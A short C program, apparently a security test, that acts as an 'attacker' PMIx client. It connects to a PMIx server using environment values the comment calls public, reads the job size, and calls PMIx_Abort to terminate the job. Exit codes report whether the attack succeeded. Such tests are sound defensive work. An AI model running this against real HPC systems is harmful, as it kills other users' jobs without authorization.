/*
 * The attacker's PMIx client: connects with whatever PMIX_* environment it
 * is given (the job's namespace, a rank, the server's URI: all of it
 * public on the host), then does what a rank may: PMIx_Get of the job
 * size, PMIx_Abort(99). Prints one line per step.
 * Exit: 0 every step succeeded (the attack worked), 3 PMIx_Init failed.
 */
#include "config.h"

#include <pmix.h>
#include <stdio.h>

int main(void)
{
    pmix_proc_t me, job;
    pmix_value_t *val = NULL;
    pmix_status_t rc;

    rc = PMIx_Init(&me, NULL, 0);
    if (rc != PMIX_SUCCESS) {
        printf("attacker: PMIx_Init failed: %s\n", PMIx_Error_string(rc));
        return 3;
    }
    printf("attacker: PMIx_Init succeeded as %s rank %u\n", me.nspace, me.rank);
    fflush(stdout);
    PMIX_LOAD_PROCID(&job, me.nspace, PMIX_RANK_WILDCARD);
    rc = PMIx_Get(&job, PMIX_JOB_SIZE, NULL, 0, &val);
    if (rc == PMIX_SUCCESS && val != NULL && val->type == PMIX_UINT32)
        printf("attacker: job size %u\n", val->data.uint32);
    else
        printf("attacker: PMIx_Get(PMIX_JOB_SIZE) failed: %s\n", PMIx_Error_string(rc));
    fflush(stdout);
    rc = PMIx_Abort(99, "aborted by an attacker", NULL, 0);
    printf("attacker: PMIx_Abort(99): %s\n", PMIx_Error_string(rc));
    return 0;
}
